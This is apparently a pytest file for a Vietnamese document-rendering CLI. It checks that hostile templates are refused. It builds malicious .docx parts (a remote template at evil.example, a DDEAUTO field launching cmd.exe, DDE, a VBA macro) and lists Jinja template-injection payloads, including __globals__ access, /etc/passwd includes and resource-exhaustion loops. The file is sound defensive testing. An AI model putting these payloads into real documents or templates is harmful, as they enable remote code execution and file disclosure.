"""Rendering fails closed (issue 10): a failed ``render all`` leaves nothing behind, hostile
.docx templates are refused by ``render`` and ``templates check`` alike, loops and output are
bounded, and ``templates check`` gives ``render``'s verdict on every injection payload."""

from __future__ import annotations

import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from helpers import docx_with, relationships_xml

SAMPLE = Path(__file__).resolve().parents[1] / "data" / "awards-sample.json"
SHIPPED = Path(__file__).resolve().parents[2] / "src" / "thidua_cli" / "templates"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def result_file(tmp_path: Path) -> Path:
    target = tmp_path / "nam-2026.de-xuat.json"
    shutil.copy(SAMPLE, target)
    return target


def _document_with(kind: str, xml: bytes) -> bytes:
    with zipfile.ZipFile(SHIPPED / f"{kind}.docx") as z:
        doc = z.read("word/document.xml")
    return docx_with(kind, {}, {"word/document.xml": doc.replace(b"</w:body>", xml + b"</w:body>")})


HOSTILE: dict[str, tuple[bytes, str]] = {
    "attached-template": (docx_with("quyet-dinh", {"word/_rels/settings.xml.rels": relationships_xml(
        f'<Relationship Id="r9" Type="{REL}/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/>')}), "attachedTemplate"),
    "unc-image": (docx_with("quyet-dinh", {"word/_rels/header9.xml.rels": relationships_xml(
        f'<Relationship Id="r9" Type="{REL}/image" Target="\\\\server\\share\\a.png" '
        'TargetMode="External"/>')}), "ảnh liên kết ra ngoài"),
    "hyperlink": (docx_with("quyet-dinh", {"word/_rels/footer9.xml.rels": relationships_xml(
        f'<Relationship Id="r9" Type="{REL}/hyperlink" Target="http://example.com/" '
        'TargetMode="External"/>')}), "liên kết ra ngoài"),
    "ddeauto": (_document_with("quyet-dinh", b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO '
                               b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
                "DDEAUTO"),
    "dde": (_document_with("quyet-dinh", b'<w:p><w:fldSimple w:instr=" DDE excel x"/></w:p>'), "DDE"),
    "macro": (docx_with("quyet-dinh", {"word/vbaProject.bin": b"\x00" * 64}), "macro VBA"),
}


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def test_render_all_with_one_bad_template_writes_nothing(run_cli: Callable[..., Any], result_file: Path,
                                                         tmp_path: Path) -> None:
    mau = tmp_path / "mau"
    mau.mkdir()
    # quyet-dinh is the sixth kind: five documents render before it fails.
    (mau / "quyet-dinh.md").write_text("# Quyết định\n{{ khong_co_bien }}\n", encoding="utf-8")
    new = tmp_path / "moi" / "van-ban"
    r = run_cli("render", "all", "--from", result_file, "--templates", mau, "-o", new)
    assert r.exit_code == 5, r.output
    assert "khong_co_bien" in r.stderr
    assert not (tmp_path / "moi").exists()  # the folders it created are gone too
    kept = tmp_path / "co-san"
    kept.mkdir()
    (kept / "ghi-chu.txt").write_text("của người dùng", encoding="utf-8")
    r = run_cli("render", "all", "--from", result_file, "--templates", mau, "-o", kept)
    assert r.exit_code == 5
    assert _leftovers(kept) == ["ghi-chu.txt"]  # no document, no hidden staging folder
    r = run_cli("render", "all", "--from", result_file, "-o", kept)
    assert r.exit_code == 0, r.output
    assert len([n for n in _leftovers(kept) if n.endswith(".docx")]) == 7
    assert not [n for n in _leftovers(kept) if n.startswith(".")]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_docx_templates_are_refused_by_check_and_render(
    run_cli: Callable[..., Any], result_file: Path, tmp_path: Path, name: str
) -> None:
    data, needle = HOSTILE[name]
    mau = tmp_path / "mau"
    mau.mkdir()
    (mau / "quyet-dinh.docx").write_bytes(data)
    checked = run_cli("templates", "check", mau / "quyet-dinh.docx")
    assert checked.exit_code == 5, checked.output
    assert needle in checked.stdout.replace("\n", " ") or needle in checked.stdout
    out = tmp_path / "ra"
    rendered = run_cli("render", "quyet-dinh", "--from", result_file, "--templates", mau, "-o", out)
    assert rendered.exit_code == 5, rendered.output
    assert "không an toàn" in rendered.stderr and needle in rendered.stderr.replace("\n", " ")
    assert not out.exists()


def test_nested_range_loops_are_bounded(run_cli: Callable[..., Any], result_file: Path, tmp_path: Path) -> None:
    mau = tmp_path / "mau"
    mau.mkdir()
    (mau / "quyet-dinh.md").write_text(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n",
        encoding="utf-8",
    )
    r = run_cli("render", "quyet-dinh", "--from", result_file, "--templates", mau)
    assert r.exit_code == 5, r.output
    assert "vượt giới hạn" in r.stderr and "vòng lặp" in r.stderr


def test_output_size_is_bounded(run_cli: Callable[..., Any], result_file: Path, tmp_path: Path) -> None:
    mau = tmp_path / "mau"
    mau.mkdir()
    (mau / "quyet-dinh.md").write_text(
        '{% for i in range(1000) %}{{ "x" * 100000 }}{% endfor %}\n', encoding="utf-8",
    )
    r = run_cli("render", "quyet-dinh", "--from", result_file, "--templates", mau)
    assert r.exit_code == 5, r.output
    assert "vượt giới hạn" in r.stderr and "ký tự" in r.stderr
    assert not list(result_file.parent.glob("quyet-dinh*"))


PAYLOADS = [
    '{{ "".__class__.__mro__ }}',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ lipsum.__globals__ }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ org.__class__.__init__.__globals__ }}",
    "{{ groups.__class__.__base__.__subclasses__() }}",
    '{{ "{0.__class__}".format(org) }}',
    "{{ org.update(name='x') }}",
    "{{ groups.append(1) }}",
    "{{ 10 ** 1000 }}",
    '{{ "x" * 10000000 }}',
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    '{% for i in range(1000) %}{{ "x" * 100000 }}{% endfor %}',
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    '{% include "/etc/passwd" %}',
    '{% include "../../../etc/passwd" %}',
    "{{ khong_co_bien }}",
    "{{ org.ten_khong_co }}",
    "{{ org.name ",
    "{{ org.name | khong_co_loc }}",
    "{{ 1 / 0 }}",
    "{{ org.name }} – {{ year }}",  # harmless: both accept
    "{% for g in groups %}{{ g.label }}{% endfor %}",  # harmless
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_check_and_render_agree_on_injection_payloads(
    run_cli: Callable[..., Any], result_file: Path, tmp_path: Path, payload: str
) -> None:
    mau = tmp_path / "mau"
    mau.mkdir()
    (mau / "quyet-dinh.md").write_text(payload + "\n", encoding="utf-8")
    checked = run_cli("templates", "check", mau / "quyet-dinh.md", "--from", result_file)
    rendered = run_cli("render", "quyet-dinh", "--from", result_file, "--templates", mau,
                       "-o", tmp_path / "ra")
    assert checked.exit_code in (0, 5), checked.output
    assert rendered.exit_code in (0, 5), rendered.output
    assert checked.exit_code == rendered.exit_code, (checked.output, rendered.output)
    if rendered.exit_code:
        assert not (tmp_path / "ra").exists()


def test_check_refuses_what_render_refuses_in_a_docx(run_cli: Callable[..., Any], result_file: Path,
                                                     tmp_path: Path) -> None:
    with zipfile.ZipFile(SHIPPED / "quyet-dinh.docx") as z:
        doc = z.read("word/document.xml")
    para = b'<w:p><w:r><w:t>{{ "".__class__.__mro__ }}</w:t></w:r></w:p>'
    mau = tmp_path / "mau"
    mau.mkdir()
    (mau / "quyet-dinh.docx").write_bytes(
        docx_with("quyet-dinh", {}, {"word/document.xml": doc.replace(b"</w:body>", para + b"</w:body>")}))
    checked = run_cli("templates", "check", mau / "quyet-dinh.docx")
    rendered = run_cli("render", "quyet-dinh", "--from", result_file, "--templates", mau)
    assert checked.exit_code == rendered.exit_code == 5, (checked.output, rendered.output)
    assert "mẫu cố truy cập phần bên trong" in checked.stdout.replace("\n", " ") or "thử in" in checked.stdout
